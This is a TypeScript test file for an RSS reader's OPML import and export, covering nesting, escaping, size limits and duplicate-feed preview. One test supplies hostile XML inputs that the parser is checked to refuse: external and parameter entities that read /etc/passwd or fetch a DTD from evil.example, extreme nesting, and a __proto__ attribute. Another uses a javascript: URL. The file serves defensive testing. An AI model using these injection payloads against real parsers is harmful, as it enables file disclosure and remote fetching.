// OPML read and write: nested and flat files, the contract's refusals, escaping, export then preview.
import { describe, expect, it } from 'vitest';
import { INITIAL_FETCH_STATE } from '../data/rss-sources.ts';
import { FEED_URL_MESSAGE, type RssSource } from '../domain/index.ts';
import { previewFeeds } from './opml-import.ts';
import { buildOpml, MAX_OPML_FEEDS, OpmlError, parseOpml } from './opml.ts';

const opml = (body: string, version = '2.0') =>
  `<?xml version="1.0" encoding="UTF-8"?><opml version="${version}"><head><title>t</title></head><body>${body}</body></opml>`;
const feed = (n: number) =>
  `<outline type="rss" text="Feed ${n}" xmlUrl="https://example.org/${n}.xml"/>`;

/** previewFeeds' address check, refusing nothing (the address rules have their own tests). */
const noRefusal = () => null;

function refusal(text: string): OpmlError {
  try {
    parseOpml(text);
  } catch (e) {
    if (e instanceof OpmlError) return e;
    throw e;
  }
  throw new Error('the file was accepted');
}

describe('parseOpml', () => {
  it('reads nested groups as categories, the nearest group winning', () => {
    const text = opml(
      `<outline text="Screen readers">${feed(1)}<outline title="Mobile">${feed(2)}</outline></outline>${feed(3)}`,
    );

    const feeds = parseOpml(text);

    expect(feeds).toEqual([
      { title: 'Feed 1', url: 'https://example.org/1.xml', category: 'Screen readers' },
      { title: 'Feed 2', url: 'https://example.org/2.xml', category: 'Mobile' },
      { title: 'Feed 3', url: 'https://example.org/3.xml', category: null },
    ]);
  });

  it('reads a flat OPML 1.0 file, with title or no title and any case of xmlUrl', () => {
    const text = opml(
      `<outline title="Titled" xmlurl="https://a.example/rss"/><outline xmlUrl="https://b.example/rss"/>`,
      '1.0',
    );

    expect(parseOpml(text)).toEqual([
      { title: 'Titled', url: 'https://a.example/rss', category: null },
      { title: '', url: 'https://b.example/rss', category: null },
    ]);
  });

  it('refuses malformed XML and documents that are not OPML, saying so', () => {
    expect(refusal('<opml><body><outline></body></opml>').message).toMatch(
      /^The file is not valid OPML: .+ \(line 1\)$/,
    );
    expect(refusal('just text').status).toBe(400);
    expect(refusal('<rss><channel/></rss>').message).toBe(
      'The file is not valid OPML: the root element is not <opml>',
    );
    expect(refusal('<opml version="2.0"><head/></opml>').message).toBe(
      'The file is not valid OPML: it has no <body> with outlines',
    );
  });

  it('refuses external and parameter entities, deep nesting and __proto__ names as invalid OPML', () => {
    const hostile = {
      external: `<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]>${opml('<outline text="&x;" xmlUrl="https://a.example/f"/>').replace(/^<\?xml[^>]*>/, '')}`,
      parameter: `<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>${opml(feed(1)).replace(/^<\?xml[^>]*>/, '')}`,
      deep: opml('<outline text="g">'.repeat(20_000) + '</outline>'.repeat(20_000)),
      proto: opml('<outline __proto__="x" text="a" xmlUrl="https://a.example/f"/>'),
    };
    for (const [name, text] of Object.entries(hostile)) {
      const e = refusal(text);
      expect(e.status, name).toBe(400);
      expect(e.message, name).toMatch(/^The file is not valid OPML: /);
    }
  });

  it('refuses more than 500 feeds and more than 1 MB', () => {
    const many = opml(Array.from({ length: MAX_OPML_FEEDS + 1 }, (_, i) => feed(i)).join(''));
    const big = opml(`<outline text="${'x'.repeat(1024 * 1024)}"/>`);

    expect(
      parseOpml(opml(Array.from({ length: MAX_OPML_FEEDS }, (_, i) => feed(i)).join(''))),
    ).toHaveLength(MAX_OPML_FEEDS);
    expect(refusal(many)).toMatchObject({
      status: 400,
      message: 'The file has more than 500 feeds',
    });
    expect(refusal(big)).toMatchObject({ status: 413, message: 'The file is larger than 1 MB' });
  });
});

const source = (id: number, name: string, url: string, categoryId: number): RssSource => ({
  id,
  name,
  url,
  categoryId,
  createdAt: '2026-01-01T00:00:00.000Z',
  fetch: { ...INITIAL_FETCH_STATE },
});

describe('buildOpml', () => {
  const categories = [
    { id: 1, name: 'News & <Views>' },
    { id: 2, name: 'Empty' },
  ];
  const sources = [
    source(1, 'Tom & "Jerry" <3>', 'https://a.example/feed?x=1&y=2', 1),
    source(2, 'Orphan', 'https://b.example/rss', 9),
  ];

  it('writes OPML 2.0 with escaped values and category groups that read back the same', () => {
    const text = buildOpml(sources, categories, new Date(0));

    expect(text).toContain('<opml version="2.0">');
    expect(text).toContain('xmlUrl="https://a.example/feed?x=1&amp;y=2"');
    expect(text).not.toContain('Empty');
    expect(parseOpml(text)).toEqual([
      {
        title: 'Tom & "Jerry" <3>',
        url: 'https://a.example/feed?x=1&y=2',
        category: 'News & <Views>',
      },
      { title: 'Orphan', url: 'https://b.example/rss', category: null },
    ]);
  });

  it('previews its own export as nothing new', async () => {
    const text = buildOpml(sources, categories, new Date(0));

    const preview = await previewFeeds(text, sources, categories, noRefusal);

    expect(preview.feeds.map((f) => f.status)).toEqual(['existing', 'existing']);
    expect(preview.unknownCategories).toEqual([]);
  });
});

describe('previewFeeds', () => {
  it('classifies new, existing (normalised url), repeated and invalid feeds, and lists unknown categories', async () => {
    const text = opml(
      `<outline text="screen READERS">` +
        `<outline text="Known" xmlUrl="HTTPS://Example.ORG:443/known/#top"/>` +
        `<outline text="Bad" xmlUrl="javascript:alert(1)"/></outline>` +
        `<outline text="Podcasts"><outline text="New" xmlUrl="https://new.example/rss"/>` +
        `<outline text="Again" xmlUrl="https://new.example/rss/"/></outline>` +
        `<outline text="podcasts"><outline text="Secret" xmlUrl="https://u:p@x.example/rss"/></outline>`,
    );

    const preview = await previewFeeds(
      text,
      [{ name: 'Known feed', url: 'https://example.org/known' }],
      [{ id: 1, name: 'Screen Readers' }],
      noRefusal,
    );

    expect(preview.feeds.map((f) => [f.title, f.status])).toEqual([
      ['Known', 'existing'],
      ['Bad', 'invalid'],
      ['New', 'new'],
      ['Again', 'existing'],
      ['Secret', 'invalid'],
    ]);
    expect(preview.feeds[0]!.message).toBe(
      "This feed is already added as 'Known feed' (https://example.org/known)",
    );
    expect(preview.feeds[1]!.message).toBe(FEED_URL_MESSAGE);
    expect(preview.feeds[3]!.message).toBeUndefined();
    expect(preview.feeds[4]!.message).toBe('Feed URLs may not contain a user name or password');
    expect(preview.unknownCategories).toEqual(['Podcasts']);
  });

  it('strips control characters and invalid Unicode from titles and groups, and keeps the feed', async () => {
    // Prepare: character references carry what the document itself may not.
    const text = opml(
      `<outline text="Scr&#x85;een &#xFFFE;readers"><outline text="Caf&#x65;&#x301;&#x9F; news" xmlUrl="https://cafe.example/rss"/></outline>`,
    );
    // Act
    const preview = await previewFeeds(text, [], [{ id: 1, name: 'Screen readers' }], noRefusal);
    // Assess
    expect(preview.feeds).toMatchObject([
      { title: 'Caf\u00e9 news', category: 'Screen readers', status: 'new' },
    ]);
    expect(preview.unknownCategories).toEqual([]);
  });
});
